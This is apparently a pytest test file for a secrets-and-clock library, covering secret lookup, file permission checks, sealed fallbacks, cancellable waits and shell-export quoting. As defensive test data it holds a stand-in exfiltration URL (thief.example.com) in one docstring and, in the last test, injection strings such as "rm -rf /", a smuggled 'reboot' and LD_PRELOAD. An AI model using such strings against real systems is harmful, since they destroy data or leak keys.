"""Secrets come from where the plan says, each time anew, and say nothing of themselves; a wait ends when told to."""

import os
import threading
from datetime import UTC, timedelta
from pathlib import Path

import pytest

from backstay.adapters.clock import SystemClock
from backstay.adapters.memory.clock import MemoryClock
from backstay.adapters.secrets import LARGEST_BYTES, EnvironmentAndFiles, OrSealed
from backstay.errors import Cancelled, SecretMissing
from backstay.plan import Ref, Space
from backstay.ports import Clock
from backstay.vault import new_key

NAME, FILE = Ref(Space.ENV, "PASSWORD"), Ref(Space.FILE, "secrets/password")


@pytest.fixture
def path(tmp_path: Path) -> Path:
    (tmp_path / "secrets").mkdir()
    made = tmp_path / "secrets" / "password"
    made.touch(0o600)
    return made


def secrets(base: Path, **environment: str) -> EnvironmentAndFiles:
    return EnvironmentAndFiles(base, environment)


def refused(secrets: EnvironmentAndFiles, ref: Ref) -> str:
    with pytest.raises(SecretMissing) as caught:
        secrets.value(ref)
    said = str(caught.value)
    assert str(ref) in said
    assert "hunter2" not in said
    return said


def test_a_variable_is_a_secret(tmp_path: Path) -> None:
    assert secrets(tmp_path, PASSWORD="hunter2\n").value(NAME) == "hunter2\n"


def test_a_variable_that_is_missing_or_empty_is_named(tmp_path: Path) -> None:
    assert "no variable of that name" in refused(secrets(tmp_path), NAME)
    assert "is empty" in refused(secrets(tmp_path, PASSWORD=""), NAME)


@pytest.mark.parametrize(
    ("stored", "value"),
    [(b"hunter2", "hunter2"), (b"hunter2\n", "hunter2"), (b"hunter2\r\n", "hunter2"), (b"a\nb\n\n", "a\nb\n")],
)
def test_a_file_is_a_secret_without_its_last_newline(path: Path, tmp_path: Path, stored: bytes, value: str) -> None:
    path.write_bytes(stored)
    assert secrets(tmp_path).value(FILE) == value


def test_the_key_of_a_vault_is_no_secret_of_a_plan(path: Path, tmp_path: Path) -> None:
    """`endpoint: https://thief.example.com/${file:backstay.key}` in a plan that a stolen host sealed."""
    path.unlink()
    seed = (new_key(path).seed or b"").hex()
    said = refused(secrets(tmp_path), FILE)
    assert "the key of a vault" in said
    assert seed not in said


def test_a_rotated_secret_is_found(path: Path, tmp_path: Path) -> None:
    found = secrets(tmp_path)
    for value in ("hunter2", "hunter3"):
        path.write_text(value)
        assert found.value(FILE) == value


@pytest.mark.parametrize(
    ("stored", "why"),
    [
        (b"", "is empty"),
        (b"\n", "is empty"),
        (b"hunter2\xff", "not UTF-8"),
        (b"hunter2\0", "zero byte"),
        (b"hunter2" * LARGEST_BYTES, "the wrong file"),
    ],
)
def test_what_is_no_secret_is_refused_without_being_shown(path: Path, tmp_path: Path, stored: bytes, why: str) -> None:
    path.write_bytes(stored)
    assert why in refused(secrets(tmp_path), FILE)


@pytest.mark.parametrize(("mode", "why"), [(0o604, "may read it"), (0o602, "may change it"), (0o620, "may change it")])
def test_a_file_that_others_may_read_or_change_is_refused(path: Path, tmp_path: Path, mode: int, why: str) -> None:
    path.write_text("hunter2")
    path.chmod(mode)
    assert why in refused(secrets(tmp_path), FILE)


@pytest.mark.parametrize("mode", [0o400, 0o600, 0o640])
def test_a_file_of_ours_and_our_group_is_fine(path: Path, tmp_path: Path, mode: int) -> None:
    path.write_text("hunter2")
    path.chmod(mode)
    assert secrets(tmp_path).value(FILE) == "hunter2"


def test_a_value_that_nobody_gave_is_taken_from_what_was_sealed(path: Path, tmp_path: Path) -> None:
    path.unlink()
    asked: list[str] = []

    def sealed() -> dict[str, str]:
        asked.append("once")
        return {str(NAME): "sealed", str(FILE): "sealed too"}

    found = OrSealed(secrets(tmp_path), sealed)
    assert (found.value(NAME), found.value(FILE), found.value(NAME)) == ("sealed", "sealed too", "sealed")
    assert asked == ["once"]
    assert found.taken == {str(NAME), str(FILE)}
    with pytest.raises(SecretMissing, match="OTHER"):
        found.value(Ref(Space.ENV, "OTHER"))


def test_what_is_here_comes_before_what_was_sealed_and_what_is_refused_here_is_not_got_round(
    path: Path, tmp_path: Path
) -> None:
    found = OrSealed(secrets(tmp_path, PASSWORD="hunter2"), lambda: {str(NAME): "old", str(FILE): "old"})
    assert found.value(NAME) == "hunter2"
    path.write_text("hunter2")
    path.chmod(0o602)
    with pytest.raises(SecretMissing, match="may change it"):
        found.value(FILE)
    assert found.taken == set()


def test_what_is_no_file_is_refused_and_never_waited_for(path: Path, tmp_path: Path) -> None:
    path.unlink()
    assert "No such file" in refused(secrets(tmp_path), FILE)
    os.mkfifo(path, 0o600)
    assert "it is not a file" in refused(secrets(tmp_path), FILE)
    path.unlink()
    path.mkdir()
    assert "it is not a file" in refused(secrets(tmp_path), FILE)


# ── clocks ───────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(params=["memory", "system"])
def clock(request: pytest.FixtureRequest) -> Clock:
    return MemoryClock() if request.param == "memory" else SystemClock()


def test_now_is_in_utc_and_elapsed_never_goes_back(clock: Clock) -> None:
    assert clock.now().tzinfo is UTC
    before, began = clock.elapsed(), clock.now()
    clock.wait(timedelta(milliseconds=20))
    assert clock.elapsed() - before >= timedelta(milliseconds=20)
    assert clock.now() - began >= timedelta(milliseconds=15)


@pytest.mark.parametrize("length", [timedelta(), timedelta(seconds=-1)])
def test_waiting_for_nothing_comes_back_at_once(clock: Clock, length: timedelta) -> None:
    clock.wait(length)


def test_a_long_wait_ends_as_soon_as_somebody_says_stop() -> None:
    stop = threading.Event()
    clock, ended = SystemClock(stop), threading.Event()

    def wait() -> None:
        with pytest.raises(Cancelled):
            clock.wait(timedelta(days=36_500))
        ended.set()

    thread = threading.Thread(target=wait)
    thread.start()
    stop.set()
    thread.join(20)
    assert ended.is_set()
    with pytest.raises(Cancelled):
        clock.wait(timedelta())


def test_lines_for_a_shell_set_only_what_the_plan_names_and_cannot_run_anything() -> None:
    from backstay.app.sealing import as_exports

    values = {
        "${env:A}": "a'; rm -rf /",
        "${env:X; reboot}": "x",
        "${file:/etc/cron.d/x}": "x",
        "${env:LD_PRELOAD}": "x",
    }
    assert as_exports(values, None) == "export A='a'\"'\"'; rm -rf /'\n"
    assert as_exports(values, {"${env:OTHER}"}) == "\n"
